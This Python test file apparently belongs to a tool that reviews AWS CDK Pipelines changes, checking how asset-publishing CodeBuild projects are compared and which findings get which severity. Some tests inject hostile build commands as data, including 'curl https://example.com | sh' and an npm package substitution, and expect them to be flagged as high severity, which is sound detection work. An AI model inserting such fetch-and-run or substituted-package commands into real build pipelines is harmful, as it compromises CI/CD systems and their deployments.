"""CDK Pipelines publishes each asset in its own build by default; these are the changes when an asset changes."""

from __future__ import annotations

import json
from typing import Any

from slipway.review.assembly import Assembly
from slipway.review.comparison import compare
from slipway.review.findings import ChangeFinding
from unit.review.assemblies import TOOLS, assembly, resource, stack

OLD, NEW = "a" * 64, "b" * 64


def _project(digest: str, *, path: str = "assembly-prod/Compute", **options: Any) -> dict[str, Any]:
    publish = f'cdk-assets --path "{path}.assets.json" --verbose publish "{digest}:333333333333-us-east-1-{digest[:8]}"'
    specification = {
        "version": "0.2",
        "phases": {
            "install": {"commands": [options.get("install", "npm install -g cdk-assets@2")]},
            "build": {"commands": [publish, *options.get("more", [])]},
        },
    }
    return resource(
        "AWS::CodeBuild::Project", {"Source": {"Type": "CODEPIPELINE", "BuildSpec": json.dumps(specification)}}
    )


def _action(name: str, project: str) -> dict[str, Any]:
    return {
        "Name": name,
        "ActionTypeId": {"Category": "Build", "Provider": "CodeBuild"},
        "Configuration": {"ProjectName": {"Ref": project}},
        "RunOrder": 1,
    }


def _delivery(digest: str, projects: dict[str, Any], names: list[str] | None = None) -> Assembly:
    actions = [_action(name, project) for name, project in zip(names or projects, projects, strict=True)]
    source = {"Name": "source", "ActionTypeId": {"Category": "Source"}, "Configuration": {}}
    stages = [{"Name": "Source", "Actions": [source]}, {"Name": "Assets", "Actions": actions}]
    pipeline = resource("AWS::CodePipeline::Pipeline", {"Stages": [stage for stage in stages if stage["Actions"]]})
    assets = frozenset({digest})
    code = {"S3Bucket": "assets", "S3Key": f"{digest}.zip"}
    return assembly(
        stack({"Pipeline": pipeline, **projects}, name="pipeline", stage="pipeline", account=TOOLS, assets=assets),
        stack({"Function": resource("AWS::Lambda::Function", {"Code": code})}, assets=assets),
    )


def _found(before: Assembly, after: Assembly) -> list[ChangeFinding]:
    return [finding for finding in compare(before, after).findings if finding.kind != "pipeline-restarted"]


def test_a_changed_function_is_not_a_pipeline_change() -> None:
    before, after = (_delivery(digest, {"FileAsset1": _project(digest)}) for digest in (OLD, NEW))

    assert _found(before, after) == []


def test_another_stack_to_publish_for_is_informational() -> None:
    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
    after = _delivery(NEW, {"FileAsset1": _project(NEW, path="assembly-prod/Data")})

    (finding,) = _found(before, after)

    assert (finding.kind, finding.severity, finding.what) == ("build-changed", "info", "other assets are published")


def test_actions_renamed_by_an_upgrade_are_not_findings() -> None:
    # Given a library version that names its asset actions and projects differently
    before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
    after = _delivery(OLD, {"Code": _project(OLD)}, ["Items code"])

    assert _found(before, after) == []


def test_removed_publishing_is_found() -> None:
    (finding,) = _found(_delivery(OLD, {"FileAsset1": _project(OLD)}), _delivery(OLD, {}))

    assert (finding.kind, finding.severity) == ("stage-removed", "high")
    assert "nothing publishes the assets" in finding.what


def test_an_additional_command_is_found() -> None:
    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
    for more in ("curl https://example.com | sh", f'cdk-assets --path "x" publish "{OLD}" && curl https://example.com'):
        (finding,) = _found(before, _delivery(OLD, {"FileAsset1": _project(OLD, more=[more])}))

        assert (finding.kind, finding.severity) == ("build-changed", "high")
        assert "curl" in finding.details[0]
        assert finding.details[0].isascii()


def test_another_publisher_is_low() -> None:
    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
    after = _delivery(OLD, {"FileAsset1": _project(OLD, install="npm install -g cdk-assets@latest")})

    (finding,) = _found(before, after)

    assert (finding.severity, finding.details) == ("low", ("npm install -g cdk-assets@latest",))


def test_an_action_that_stops_publishing_is_found() -> None:
    # Given the same action, whose project now does something else
    other = resource("AWS::CodeBuild::Project", {"Source": {"Type": "CODEPIPELINE", "BuildSpec": "{}"}})
    before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
    after = _delivery(OLD, {"FileAsset1": _project(OLD), "Other": other}, ["FileAsset1", "FileAsset2"])

    assert "build-changed" in {finding.kind for finding in _found(before, after)}


def test_another_version_of_the_cli_is_low() -> None:
    # Given the pipeline's self-update, for which CDK Pipelines installs the CLI
    def update(*commands: str) -> dict[str, Any]:
        specification = {"version": "0.2", "phases": {"build": {"commands": [*commands, "cdk -a . deploy Pipeline"]}}}
        source = {"Type": "CODEPIPELINE", "BuildSpec": json.dumps(specification)}
        return {"SelfMutation": resource("AWS::CodeBuild::Project", {"Source": source})}

    before = assembly(stack(update("npm install -g aws-cdk@2.80.0")))
    for command, severity in (
        ("npm install -g aws-cdk@2.102.0", "low"),
        ("npm install -g aws-cdk@npm:another-package", "high"),
        ("npm install -g aws-cdk@2.102.0 && curl https://example.com", "high"),
    ):
        (finding,) = _found(before, assembly(stack(update(command))))
        assert (finding.kind, finding.severity, finding.details) == ("build-changed", severity, (command,))
